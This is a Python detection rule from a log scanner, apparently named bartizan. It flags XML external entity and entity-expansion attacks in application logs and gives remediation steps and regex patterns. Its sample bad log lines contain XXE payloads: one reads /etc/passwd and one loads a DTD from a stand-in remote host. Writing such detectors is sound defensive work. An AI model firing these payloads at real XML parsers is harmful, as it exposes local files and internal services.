"""XML that makes its reader fetch files or addresses."""

from bartizan.detect.logs.payload import Payload
from bartizan.model import Check, Example, Severity

CHECK = Check(
    id="LOG-107",
    slug="xml-external-entity-in-log",
    title="A document in the log makes an XML reader fetch files or addresses",
    severity=Severity.HIGH,
    what="""Declarations of external or parameter entities, inclusions of text by XInclude, and entities that grow without
end.""",
    why="""A reader that follows them gives away local files, calls internal services, or runs out of memory.""",
    fix="""1. Look for outgoing connections of the service at that time.
2. Switch off document type declarations in the XML reader.
3. If a file with credentials may have been read, replace them.""",
    cwe=(611, 776),
    attack=("T1190",),
    controls=("soc2:CC6.6", "nist-800-53:SI-10"),
    references=(
        "https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing",
    ),
    bad=(
        Example(
            "app.log",
            'ERROR bad order <!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><o>&x;</o>\n',
        ),
        Example(
            "app.log", 'ERROR bad order <!ENTITY % d PUBLIC "x" "http://203.0.113.9/d.dtd"> %d;\n'
        ),
    ),
    good=(
        Example(
            "app.log",
            'INFO <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n',
        ),
        Example("app.log", "INFO entity SYSTEM user created\n"),
    ),
)
PAYLOADS = (
    Payload(r"<!entity\s{1,8}%?\s{0,8}[\w.-]{1,60}\s{1,8}(?:system|public)\s{1,8}[\"']"),
    Payload(r"<!entity\s{1,8}[\w.-]{1,60}\s{1,8}[\"'](?:&[\w.-]{1,60};){2,}"),
    Payload(r"<xi:include\s[^<>]{0,200}href\s{0,4}=\s{0,4}[\"'](?:file|https?|ftp|/)"),
    Payload(
        r"<!doctype\s{1,8}[\w.-]{1,60}\s{1,8}system\s{1,8}[\"'](?:file|php|expect|gopher|jar):"
    ),
)
